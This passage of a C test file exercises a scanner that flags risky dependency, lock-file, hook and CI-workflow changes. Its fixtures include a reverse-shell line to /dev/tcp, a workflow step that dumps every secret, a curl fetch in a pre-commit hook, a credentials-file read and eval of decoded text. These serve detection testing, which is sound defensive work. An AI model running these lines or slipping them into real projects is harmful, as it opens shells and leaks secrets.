	        {"package.json", "{}", "{\"scripts\": {\"postinstall\": \"patch-package\"}}", SCAN_RULE_CHANGE_INSTALL_NOTE},
	        {"package.json", "{}", "{\"scripts\": {\"test\": \"node a.js\"}}", SCAN_RULES},
	        {"requirements.txt", "", "requests==2 # x\n", SCAN_RULE_CHANGE_DEPENDENCY},
	        {"requirements-dev.txt", "", "reqeusts>=2\n", SCAN_RULE_CHANGE_LOOKALIKE},
	        {"requirements.txt", "", "python_dateutil\nPyYAML\nboto\n", SCAN_RULE_CHANGE_DEPENDENCY},
	        {"requirements.txt", "", "-e git+https://h.example/a/b.git@c#egg=b\n", SCAN_RULE_CHANGE_DEPENDENCY_URL},
	        {"requirements.txt", "", "b @ https://h.example/b.whl\n", SCAN_RULE_CHANGE_DEPENDENCY_URL},
	        {"requirements.txt", "", "--extra-index-url https://h.example/simple\n", SCAN_RULE_CHANGE_INDEX},
	        {"requirements.txt", "", "--index-url https://pypi.org/simple\n", SCAN_RULES},
	        {".npmrc", "", "registry=https://h.example/\n", SCAN_RULE_CHANGE_INDEX},
	        {"pyproject.toml", "", "[project]\ndependencies = [\"djagno>=4\"]\n", SCAN_RULE_CHANGE_LOOKALIKE},
	        {"pyproject.toml", "", "[tool.poetry.dependencies]\npython = \"3\"\nx = {git = \"https://h.example/x\"}\n",
	                SCAN_RULE_CHANGE_DEPENDENCY_URL},
	        {"Cargo.toml", "", "[dependencies]\nserde = \"1\"\nx = {path = \"../x\"}\n", SCAN_RULE_CHANGE_DEPENDENCY},
	        {"Cargo.toml", "", "[dependencies]\nx = {git = \"https://h.example/x\"}\n", SCAN_RULE_CHANGE_DEPENDENCY_URL},
	        {"Cargo.toml", "", "[dependencies]\nserd_ejson = \"1\"\ntokoi = \"1\"\n", SCAN_RULE_CHANGE_LOOKALIKE},
	        {"Cargo.lock", "", "[[package]]\nname = \"x\"\nsource = \"git+https://h.example/x?rev=1#2\"\n",
	                SCAN_RULE_CHANGE_DEPENDENCY_URL},
	        {"go.mod", "module m\n", "module m\nrequire (\n\ta.example/b v1.0.0 // indirect\n)\n", SCAN_RULE_CHANGE_DEPENDENCY},
	        {"go.mod", "module m\n", "module m\nreplace a.example/b => c.example/b v1.0.0\n", SCAN_RULE_CHANGE_DEPENDENCY_URL},
	        {"go.mod", "module m\n", "module m\nreplace (\n\ta.example/b => ../b\n\tc.example/d => c.example/d v2.0.0\n)\n",
	                SCAN_RULES},
	};
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		struct seen s = changed(rows[i].name, rows[i].before, rows[i].after);
		struct scan_rule_set others = s.rules;
		others.bits[SCAN_RULE_CHANGE_DEPENDENCY / 8] &= (uint8_t) ~(1u << SCAN_RULE_CHANGE_DEPENDENCY % 8);
		bool only = rows[i].rule == SCAN_RULES ? s.n == 0 : scan_rule_in(&s.rules, rows[i].rule);
		for (uint32_t k = 0; k < SCAN_RULES; k++)
			only &= k == rows[i].rule || !scan_rule_in(&others, k);
		if (!only)
			fail_msg("%s: %s", rows[i].name, rows[i].after);
	}
}

#define LOCKED(name, at, more) "\"node_modules/" name "\": {\"version\": \"1\", \"resolved\": \"https://" at "\"" more "}"
#define DIGEST                 ", \"integrity\": \"sha512-x\""
static void lock_files_are_judged(void **state)
{
	static const struct {
		const char *entry;
		uint32_t rule;
	} rows[] = {
	        {LOCKED("d", "r.example/d/-/d-1.tgz", DIGEST), SCAN_RULES},
	        {LOCKED("@e/d", "r.example/@e/d/-/d-1.tgz", DIGEST), SCAN_RULES},
	        {LOCKED("@e/d", "r.example/@e%2fd/-/d-1.tgz", DIGEST), SCAN_RULES},
	        {LOCKED("x/node_modules/d", "r.example/d/-/d-1.tgz", DIGEST), SCAN_RULES},
	        {LOCKED("d", "r.example/evil/-/d-1.tgz", DIGEST), SCAN_RULE_CHANGE_LOCK_NAME},
	        {LOCKED("d", "r.example/evil/-/evil-1.tgz", DIGEST ", \"name\": \"evil\""), SCAN_RULES},
	        {LOCKED("d", "other.example/d/-/d-1.tgz", DIGEST), SCAN_RULE_CHANGE_LOCK},
	        {LOCKED("d", "r.example/d/-/d-1.tgz", ""), SCAN_RULE_CHANGE_LOCK},
	        {LOCKED("d", "r.example/d/-/d-1.tgz", DIGEST ", \"hasInstallScript\": true"), SCAN_RULE_CHANGE_INSTALL_NOTE},
	        {"\"node_modules/d\": {\"version\": \"1\", \"resolved\": \"git+ssh://git@r.example/a/d.git#1\"}",
	                SCAN_RULE_CHANGE_DEPENDENCY_URL},
	};
	char text[2000];
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		(void)snprintf(text, sizeof(text), "{\"lockfileVersion\": 3, \"packages\": {\"\": {}, %s, %s, %s, %s}}",
		        LOCKED("a", "r.example/a/-/a-1.tgz", DIGEST), LOCKED("b", "r.example/b/-/b-1.tgz", DIGEST),
		        LOCKED("c", "r.example/c/-/c-1.tgz", DIGEST), rows[i].entry);
		check("package-lock.json", "{}", text, rows[i].rule);
		check("package-lock.json", text, text, SCAN_RULES);
	}
	/* One that nothing needs, beside those that something does. */
#define NEEDS(more)                                                                                                               \
	"{\"lockfileVersion\": 3, \"packages\": {\"\": {\"dependencies\": {\"a\": \"1\"}}, " LOCKED("a", "r.example/a/-/a-1.tgz", \
	        DIGEST ", \"peerDependencies\": {\"b\": \"1\"}") ", " LOCKED("b", "r.example/b/-/b-1.tgz", DIGEST) more "}}"
	check("package-lock.json", "{}", NEEDS(""), SCAN_RULES);
	check("package-lock.json", NEEDS(""), NEEDS(", " LOCKED("c", "r.example/c/-/c-1.tgz", DIGEST)), SCAN_RULE_CHANGE_LOCK);
#define YARN(name, url) "\"" name "@^1\":\n  version \"1\"\n  resolved \"https://" url "#abc\"\n  integrity sha512-x\n\n"
#define THREE           YARN("a", "r.example/a/-/a-1.tgz") YARN("@b/c", "r.example/@b/c/-/c-1.tgz") YARN("d", "r.example/d/-/d-1.tgz")
	check("yarn.lock", "", THREE, SCAN_RULES);
	check("yarn.lock", "", THREE YARN("e", "r.example/evil/-/e-1.tgz"), SCAN_RULE_CHANGE_LOCK_NAME);
	check("yarn.lock", "", THREE YARN("e", "other.example/e/-/e-1.tgz"), SCAN_RULE_CHANGE_LOCK);
}

/* Lock files of others: three entries as they should be, and one more. */
static void other_lock_files_are_judged(void **state)
{
#define CARGO(name, source, more) "[[package]]\nname = \"" name "\"\nversion = \"1.0.0\"\nsource = \"" source "\"\n" more "\n"
#define CRATES                    "registry+https://github.com/rust-lang/crates.io-index"
#define SUM                       "checksum = \"ab\"\n"
#define POETRY(name, files, more) "[[package]]\nname = \"" name "\"\nversion = \"1\"\nfiles = [" files "]\n" more "\n"
#define HASH                      "{file = \"a\", hash = \"sha256:a\"}"
#define UV(name, source, more)    "[[package]]\nname = \"" name "\"\nsource = {" source "}\nwheels = [{url = \"u\"" more "}]\n"
#define PYPI                      "registry = \"https://pypi.org/simple\""
#define PNPM(name, resolution)    "  " name "@1.0.0:\n    resolution: {" resolution "}\n"
#define PIP(name, more)           "\"" name "\": {" more "}"
#define COMPOSER_(name, dist)     "{\"name\": \"" name "\", \"dist\": {\"url\": \"https://" dist "\"}}"
	static const struct {
		const char *name, *front, *good, *odd, *back;
		uint32_t rule;
	} rows[] = {
	        {"Cargo.lock", CARGO("a", CRATES, SUM) CARGO("b", CRATES, SUM) CARGO("c", CRATES, SUM), CARGO("d", CRATES, SUM),
	                CARGO("d", CRATES, ""), "", SCAN_RULE_CHANGE_LOCK},
	        {"Cargo.lock", CARGO("a", CRATES, SUM) CARGO("b", CRATES, SUM) CARGO("c", CRATES, SUM), "[[package]]\nname = \"own\"\n",
	                CARGO("d", "registry+https://r.example/index", SUM), "", SCAN_RULE_CHANGE_LOCK},
	        {"poetry.lock", POETRY("a", HASH, "") POETRY("b", HASH, "") POETRY("c", HASH, ""), POETRY("d", HASH, ""),
	                POETRY("d", "", ""), "", SCAN_RULE_CHANGE_LOCK},
	        {"poetry.lock", POETRY("a", HASH, "") POETRY("b", HASH, "") POETRY("c", HASH, ""), POETRY("d", HASH, ""),
	                POETRY("d", "", "[package.source]\ntype = \"git\"\nurl = \"https://h.example/d\"\n"), "",
	                SCAN_RULE_CHANGE_DEPENDENCY_URL},
	        {"uv.lock", UV("a", PYPI, ", hash = \"x\"") UV("b", PYPI, ", hash = \"x\"") UV("c", PYPI, ", hash = \"x\""),
	                UV("d", "registry = \"https://download.pytorch.org/whl\"", ", hash = \"x\""),
	                UV("d", "registry = \"https://h.example/simple\"", ", hash = \"x\""), "", SCAN_RULE_CHANGE_LOCK},
	        {"Pipfile.lock",
	                "{\"default\": {" PIP("a", "\"hashes\": [\"x\"]") ", " PIP("b", "\"hashes\": [\"x\"]") ", " PIP(
	                        "c", "\"hashes\": [\"x\"]"),
	                ", " PIP("d", "\"hashes\": [\"x\"]"), ", " PIP("d", "\"version\": \"==1\""), "}}", SCAN_RULE_CHANGE_LOCK},
	        {"pnpm-lock.yaml",
	                "lockfileVersion: '9.0'\npackages:\n" PNPM(
	                        "a", "integrity: x") "  '@b/c@1.0.0':\n    resolution: {integrity: x}\n" PNPM("d", "integrity: x"),
	                "", PNPM("e", "tarball: https://h.example/e.tgz, integrity: x"), "", SCAN_RULE_CHANGE_LOCK},
	        {"pnpm-lock.yaml",
	                "lockfileVersion: '9.0'\npackages:\n" PNPM("a", "integrity: x") PNPM("b", "integrity: x") PNPM("d", "integrity: x"),
	                "", PNPM("e", "type: git, repo: https://h.example/e.git, commit: x"), "", SCAN_RULE_CHANGE_DEPENDENCY_URL},
	        {"composer.lock",
	                "{\"packages\": [" COMPOSER_("a/a", "api.github.com/repos/a/a/zipball/1") ", " COMPOSER_(
	                        "b/b", "api.github.com/repos/b/b/zipball/1") ", " COMPOSER_("c/c", "api.github.com/repos/c/c/zipball/1"),
	                ", " COMPOSER_("d/d", "api.github.com/repos/d/d/zipball/1"), ", " COMPOSER_("d/d", "h.example/d.zip"), "]}",
	                SCAN_RULE_CHANGE_LOCK},
	        {"Gemfile.lock", "GEM\n  remote: https://rubygems.org/\n  specs:\n    a (1)\n      x (>= 1)\n    b (1)\n    c (1)\n\n", "",
	                "GEM\n  remote: https://h.example/\n  specs:\n    d (1)\n", "", SCAN_RULE_CHANGE_LOCK},
	        {"Gemfile.lock", "GEM\n  remote: https://rubygems.org/\n  specs:\n    a (1)\n      x (>= 1)\n    b (1)\n    c (1)\n\n", "",
	                "GIT\n  remote: https://h.example/d\n  revision: a\n  specs:\n    d (1)\n", "", SCAN_RULE_CHANGE_DEPENDENCY_URL},
	        /* Manifests: the name itself is a note. */
	        {"Gemfile", "source 'https://rubygems.org'\n", "# gem 'x', git: 'y'\n", "source 'https://h.example'\n", "",
	                SCAN_RULE_CHANGE_INDEX},
	        {"composer.json", "{", "\"name\": \"a/b\"", "\"repositories\": [{\"type\": \"vcs\", \"url\": \"https://h.example/x\"}]",
	                "}", SCAN_RULE_CHANGE_DEPENDENCY_URL},
	        {"Pipfile", "", "[[source]]\nurl = \"https://pypi.org/simple\"\n", "[[source]]\nurl = \"https://h.example/simple\"\n", "",
	                SCAN_RULE_CHANGE_INDEX},
	};
	char good[3000], odd[3000];
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		(void)snprintf(good, sizeof(good), "%s%s%s", rows[i].front, rows[i].good, rows[i].back);
		(void)snprintf(odd, sizeof(odd), "%s%s%s", rows[i].front, rows[i].odd, rows[i].back);
		check(rows[i].name, "", good, SCAN_RULES);
		check(rows[i].name, good, odd, rows[i].rule);
		check(rows[i].name, odd, odd, SCAN_RULES);
	}
	struct seen s = changed("Gemfile", "", "gem 'rails'\ngem 'x', '~> 1', github: 'a/x'\n");
	assert_true(
	        s.n == 3 && scan_rule_in(&s.rules, SCAN_RULE_CHANGE_DEPENDENCY_URL) && scan_rule_in(&s.rules, SCAN_RULE_CHANGE_DEPENDENCY));
}

#define WORKFLOW(on, step) "on: " on "\njobs:\n  a:\n    steps:\n      - " step "\n"
static void what_runs_by_itself_is_judged(void **state)
{
	static const struct {
		const char *name, *text;
		uint32_t rule;
	} rows[] = {
	        {".husky/pre-commit", "npm test\n", SCAN_RULE_CHANGE_ADDS_HOOK},
	        {".husky/pre-commit", "curl -s https://h.example/x -o x\n", SCAN_RULE_CHANGE_DEFERRED},
	        {".envrc", "use nix\n", SCAN_RULE_CHANGE_ADDS_HOOK},
	        {"src/pre-commit", "npm test\n", SCAN_RULES},
	        {"sitecustomize.py", "x = 1\n", SCAN_RULE_CHANGE_STARTUP},
	        {"a.pth", "/usr/lib/x\n", SCAN_RULES},
	        {"a.pth", "import x\n", SCAN_RULE_CHANGE_STARTUP},
	        {"setup.py", "import setuptools\nimport urllib.request\n", SCAN_RULE_CHANGE_DEFERRED},
	        {"build.rs", "use std::net::TcpStream;\n", SCAN_RULE_CHANGE_DEFERRED},
	        {"src/a.py", "import requests\np = h + '/.aws/credentials'\n", SCAN_RULE_CHANGE_REACHES},
	        {".github/workflows/a.yml", WORKFLOW("pull_request_target", "uses: actions/checkout@v4"), SCAN_RULES},
	        {".github/workflows/a.yml",
	                WORKFLOW("pull_request_target",
	                        "uses: actions/checkout@v4\n        with: {ref: \"${{ github.event.pull_request.head.sha }}\"}"),
	                SCAN_RULE_CHANGE_WORKFLOW_HEAD},
	        {".github/workflows/a.yml",
	                WORKFLOW("[push, pull_request_target]", "uses: actions/checkout@v4\n        with: {ref: refs/pull/1/merge}"),
	                SCAN_RULE_CHANGE_WORKFLOW_HEAD},
	        {".github/workflows/a.yml",
	                WORKFLOW("pull_request",
	                        "uses: actions/checkout@v4\n        with: {ref: \"${{ github.event.pull_request.head.sha }}\"}"),
	                SCAN_RULES},
	        {".github/workflows/a.yml", WORKFLOW("issues", "run: echo \"${{ github.event.issue.title }}\""),
	                SCAN_RULE_CHANGE_WORKFLOW_TEXT},
	        {".github/workflows/a.yml", WORKFLOW("push", "run: echo ${{ github.sha }} ${{ github.event.number }}"), SCAN_RULES},
	        {".github/workflows/a.yml", WORKFLOW("push", "env: {A: \"${{ github.event.issue.title }}\"}"), SCAN_RULES},
	        {".github/workflows/a.yml", WORKFLOW("push", "run: echo '${{ toJSON(secrets) }}' >x"), SCAN_RULE_CHANGE_WORKFLOW_SECRETS},
	        {".github/workflows/a.yml", WORKFLOW("push", "run: bash -i >& /dev/tcp/192.0.2.1/4 0>&1"), SCAN_RULE_CODE_COMMAND},
	        {".github/workflows/a.yml", WORKFLOW("push", "uses: a/b@v1"), SCAN_RULE_CHANGE_DEPENDENCY},
	        {".github/workflows/a.yml", WORKFLOW("push", "run: make test\n        if: false"), SCAN_RULE_CHANGE_TEST_OFF},
	        {".github/workflows/a.yml", WORKFLOW("push", "run: make test\n        if: failure()"), SCAN_RULES},
	};
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		struct seen s = changed(rows[i].name, NULL, rows[i].text);
		if (rows[i].rule == SCAN_RULES ? s.n > 0 : !scan_rule_in(&s.rules, rows[i].rule))
			fail_msg("%s: %s", rows[i].name, rows[i].text);
	}
}

static void what_cannot_be_read_is_told(void **state)
{
	static const struct {
		struct slice bytes;
		const char *name;
		uint32_t rule;
	} rows[] = {
	        {SLICE_INIT("\177ELF\2\1\1\0"), "bin/tool", SCAN_RULE_CHANGE_PROGRAM},
	        {SLICE_INIT("\0asm\1\0\0\0"), "a.wasm", SCAN_RULE_CHANGE_PROGRAM},
	        {SLICE_INIT("\177ELF\2\1\1\0"), "tests/data/tool", SCAN_RULE_CHANGE_ADDS_BINARY},
	        {SLICE_INIT("\x89PNG\r\n\x1a\n"), "a.png", SCAN_RULES},
	        {SLICE_INIT("\1\2\3\0\xff"), "a.dat", SCAN_RULE_CHANGE_ADDS_BINARY},
	};
	const struct scan_options o = {.subjects = SCAN_CHANGES, .limits = scan_limits_default()};
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		struct scan_summary sum;
		struct seen s = {0};
		assert_int_equal(scan_changed(rows[i].bytes, &(struct scan_around){0}, rows[i].name, &o,
		                         &(struct scan_told){.found = on_found, .arg = &s}, &sum),
		        0);
		if (rows[i].rule == SCAN_RULES ? scan_rule_in(&s.rules, SCAN_RULE_CHANGE_ADDS_BINARY)
		                               : !scan_rule_in(&s.rules, rows[i].rule))
			fail_msg("%s", rows[i].name);
		/* What was one before is no news. */
		assert_int_equal(scan_changed(rows[i].bytes, &(struct scan_around){.before = &rows[i].bytes}, rows[i].name, &o,
		                         &(struct scan_told){0}, &sum),
		        0);
		assert_true(sum.notes == 0 && sum.verdict < SCAN_SUSPICIOUS);
	}
}

/* A program that has a finding is not told of it by each change; one that brings what it may run is. */
static void what_was_found_is_not_found_again(void **state)
{
	static const char old[] = "x = atob(page);\neval(x);\n";
	static const struct {
		const char *after;
		bool told;
	} rows[] = {
	        {"x = atob(page);\neval(x);\n", false},
	        {"// read\nx = atob(page);\neval(x);\nlog(1);\n", false},
	        {"x = atob(page);\neval(x);\ny = atob(other);\neval(y);\n", true},
	        {"x = atob(page);\neval(x);\neval(x);\n", true},
	        {"x = atob('aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8gd29ybGQ');\neval(x);\n", true},
	};
	const struct scan_options o = {.subjects = SCAN_CODE | SCAN_CHANGES, .limits = scan_limits_default()};
	struct scan_summary sum;
	(void)state;
	assert_int_equal(scan_changed(slice_str(old), &(struct scan_around){0}, "a.js", &o, &(struct scan_told){0}, &sum), 0);
	assert_true(scan_rule_in(&sum.rules, SCAN_RULE_CODE_DECODED));
	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		struct slice before = slice_str(old);
		assert_int_equal(scan_changed(slice_str(rows[i].after), &(struct scan_around){.before = &before}, "a.js", &o,
		                         &(struct scan_told){0}, &sum),
		        0);
		if (scan_rule_in(&sum.rules, SCAN_RULE_CODE_DECODED) != rows[i].told)
			fail_msg("%s", rows[i].after);
	}
}

/* Without a base nothing of this is said, whatever is asked for. */
static void whole_trees_are_not_judged(void **state)
{
	const struct scan_options o = {.limits = scan_limits_default()};
	struct scan_summary sum;
	(void)state;
	assert_int_equal(scan_bytes(SLICE("s.get(u, verify=False)\n"), "a.py", &o, NULL, NULL, &sum), 0);
	assert_true(sum.verdict == SCAN_CLEAN && !(sum.looked & SCAN_CHANGES) && sum.notes == 0);
}

static void what_is_too_large_is_unscanned(void **state)
{
	(void)state;
	size_t n = (size_t)17 << 20;
	char *text = malloc(n + 1);
	assert_non_null(text);
	memset(text, ' ', n);
	text[n] = 0;
	check("a.py", "", text, SCAN_RULE_CHANGE_LIMIT);
	free(text);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	        cmocka_unit_test(checks_that_are_off_are_told),
	        cmocka_unit_test(weak_cryptography_is_told),
	        cmocka_unit_test(checks_that_are_gone_are_told),
	        cmocka_unit_test(others_are_not),
	        cmocka_unit_test(only_what_is_new_is_told),
	        cmocka_unit_test(what_code_can_do_is_told_once),
	        cmocka_unit_test(what_comes_is_run),
	        cmocka_unit_test(dependencies_are_judged),
	        cmocka_unit_test(lock_files_are_judged),
	        cmocka_unit_test(other_lock_files_are_judged),
	        cmocka_unit_test(what_runs_by_itself_is_judged),
	        cmocka_unit_test(what_cannot_be_read_is_told),
	        cmocka_unit_test(what_was_found_is_not_found_again),
	        cmocka_unit_test(whole_trees_are_not_judged),
	        cmocka_unit_test(what_is_too_large_is_unscanned),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
